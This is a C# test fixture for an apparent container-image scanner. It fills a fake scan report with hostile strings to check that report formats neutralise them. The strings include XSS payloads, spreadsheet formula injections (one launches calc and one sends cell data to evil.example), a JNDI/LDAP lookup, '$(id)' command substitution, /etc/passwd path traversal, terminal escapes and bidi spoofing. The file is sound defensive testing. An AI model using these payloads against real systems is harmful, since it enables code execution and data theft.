using System.Security.Cryptography;
using System.Text;
using ImageScan.Core.Images;
using ImageScan.Core.Inventory;
using ImageScan.Core.Reports;
using ImageScan.Core.Results;
using ImageScan.Core.Vulnerabilities;
using ImageScan.Core.Vulnerabilities.Cvss;

namespace ImageScan.Core.Tests.Reports;

/// <summary>
/// One image every text of which, whether of the image, of an advisory, of a registry or of who decided, attacks some format. It needs no other file,
/// so that every project of tests can have it.
/// </summary>
internal static class HostileImage
{
    /// <summary>Is in every link that no report may have, and nowhere else.</summary>
    public const string RefusedHost = "refused.example";

    /// <summary>Texts of every field.</summary>
    public static IReadOnlyList<string> Attacks { get; } =
    [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "x' onmouseover='alert(1)' <!-- --> </title></textarea></style>",
        "[x](javascript:alert(1)) ![i](https://evil.example/i.png) <https://evil.example> **b** `c` | cell\n\n# heading\n"
            + "- item @admin #1 https://evil.example www.evil.example",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "+cmd|' /C calc'!A1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r\n=1+1\r\n",
        "＝1+1;=2+2,=3+3\"",
        "\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u009b31m\u0008\u000b\u000c",
        "\u202egnp.exe\u2066x\u2069\u200f\u061c\u200b\ufeff\U000e0041",
        "nul\0here\u0001\u007f\u0085\u2028\u2029\ufffe\uffff",
        "\ud800 half \udc00",
        "]]><![CDATA[x]]>&amp;&lt;&#0;&lol;<!DOCTYPE x [<!ENTITY a \"b\">]>",
        "{0} {{7*7}} ${jndi:ldap://evil.example/x} <%= 7*7 %> #{7*7} $(id) `id`",
        "../../../etc/passwd",
        "//evil.example/..\\..\\x%2e%2e%2f",
        "\"quoted\", 'single'; back\\slash \\u003cb\\u003e",
        "",
        " ",
        new string('A', 200_000),
        string.Concat(Enumerable.Repeat("é\u0301😀", 20_000)),
    ];

    /// <summary>Links that lead elsewhere than they say, or not to the web.</summary>
    public static IReadOnlyList<string> RefusedLinks { get; } =
    [
        $"javascript:alert('{RefusedHost}')",
        $"data:text/html,<script>//{RefusedHost}</script>",
        $"vbscript:{RefusedHost}",
        $"file:///{RefusedHost}/etc/passwd",
        $"//{RefusedHost}/x",
        $"https://nvd.nist.gov@{RefusedHost}/x",
        $"https://user:secret@{RefusedHost}/",
        $"ftp://{RefusedHost}/x",
        $"/{RefusedHost}",
        $"https://ex\u202eample.{RefusedHost}/",
        $"https://{RefusedHost}/{new string('a', 5_000)}",
    ];

    /// <summary>Links of the web that try to end what they stand in.</summary>
    public static IReadOnlyList<string> OddLinks { get; } =
    [
        "https://odd.example/\"><script>alert(1)</script>",
        "https://odd.example/)[x](javascript:alert(1)",
        "https://odd.example/' onclick='alert(1)",
        "https://odd.example/a b\nc|d`e\\f",
    ];

    private static readonly DateTimeOffset Then = new(2026, 1, 2, 3, 4, 5, TimeSpan.Zero);
    private static readonly string[] Links = [.. RefusedLinks, .. OddLinks];

    /// <summary>The report: findings with and without a decision, packages of every type.</summary>
    public static ImageReport Report()
    {
        Scan scan = Scan();
        return ImageReport.Of(scan, scan.Names[0]).Decided(reported => reported.Finding.Cve.Length % 3 == 0
            ? new ReportedDecision((DecisionKind)(reported.Finding.Cve.Length % 5), reported.Finding.Summary, Then.AddDays(30))
            : null);
    }

    public static Scan Scan()
    {
        PackageFindings[] packages = [.. Attacks.Index().Select(attack => PackageOf(attack.Index, attack.Item))];
        string all = string.Concat(Attacks);
        var manifest = new ImageManifest(
            DigestOf("manifest"), Index: null, new Descriptor("config", DigestOf("config"), 1), [new Descriptor("layer", DigestOf("layer"), 1)]);
        return new Scan
        {
            Id = DigestOf("manifest"),
            Platform = Platform.Default,
            Manifest = manifest,
            Config = new ImageConfig { Created = Then, History = [new HistoryEntry(Then, all, all, EmptyLayer: false)] },
            Inventory = new ImageInventory
            {
                Distribution = new Distribution(all, all, all, all),
                Packages = [.. packages.Select(package => package.Installed)],
                Warnings = [.. Attacks.Select(attack => new InventoryWarning(attack, attack))],
            },
            Match = new MatchOutcome
            {
                Packages = packages,
                CoversDistribution = false,
                CoversLanguages = false,
                Advisories = new AdvisoryOrigin(all, Then, Then, IsStarterSet: true),
                Ended = new EndOfLife(new DateOnly(2020, 1, 1), null, RefusedLinks[0]),
                Warnings = [.. Attacks.Select(attack => new InventoryWarning(attack, attack))],
            },
            DetectorsVersion = all,
            // An archive is called as the file that it came in.
            Names = [new ImageReference("", "", "", $"docker-archive:{all}", null)],
            ScannedAt = Then,
            SavedAt = Then,
        };
    }

    /// <summary>What a format makes of it.</summary>
    public static byte[] Written(IReportFormat format) => Written(format, Report());

    /// <summary>What a format makes of any report.</summary>
    public static byte[] Written(IReportFormat format, ImageReport report)
    {
        using var output = new MemoryStream();
        format.Write(report, output);
        return output.ToArray();
    }

    private static PackageFindings PackageOf(int number, string attack)
    {
        PackageType type = PackageType.All[number % PackageType.All.Count];
        var package = new Package
        {
            Type = type,
            Name = attack,
            Version = attack,
            SourceName = attack,
            SourceVersion = attack,
            Architecture = attack,
            Vendor = attack,
            Module = attack,
            License = attack,
            Path = attack,
            InnerPath = attack,
        };
        return new PackageFindings(
            new InstalledPackage(package, 0) { Executables = [new PackageExecutable(attack, [attack])] },
            [.. Links.Index().Where(link => link.Index % Attacks.Count % 4 == number % 4).Select(link => FindingOf(attack, link.Item, link.Index))]);
    }

    private static Finding FindingOf(string attack, string link, int number) => new()
    {
        Cve = $"{attack}{(number % 2 == 0 ? "" : "-x")}",
        AdvisoryId = attack,
        AdvisoryLink = link,
        Aliases = [attack, $"GHSA-{attack}"],
        Summary = attack,
        Link = link,
        FixedBy = attack,
        Severity = (Severity)(number % 5),
        Ecosystem = attack,
        CvssV3 = CvssV3.TryParse("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", out CvssV3? v3) ? v3 : null,
        CvssV2 = CvssV2.TryParse("AV:N/AC:L/Au:N/C:P/I:P/A:P", out CvssV2? v2) ? v2 : null,
        Exploit = new KnownExploit(new DateOnly(2026, 1, 1), null) { ShortDescription = attack, RequiredAction = attack, RansomwareCampaignUse = attack },
        Epss = new EpssScore(0.5f, 0.9f),
        PublishedOn = Then,
        LastModified = Then,
    };

    private static Digest DigestOf(string content) => Digest.OfSha256(SHA256.HashData(Encoding.UTF8.GetBytes(content)));
}
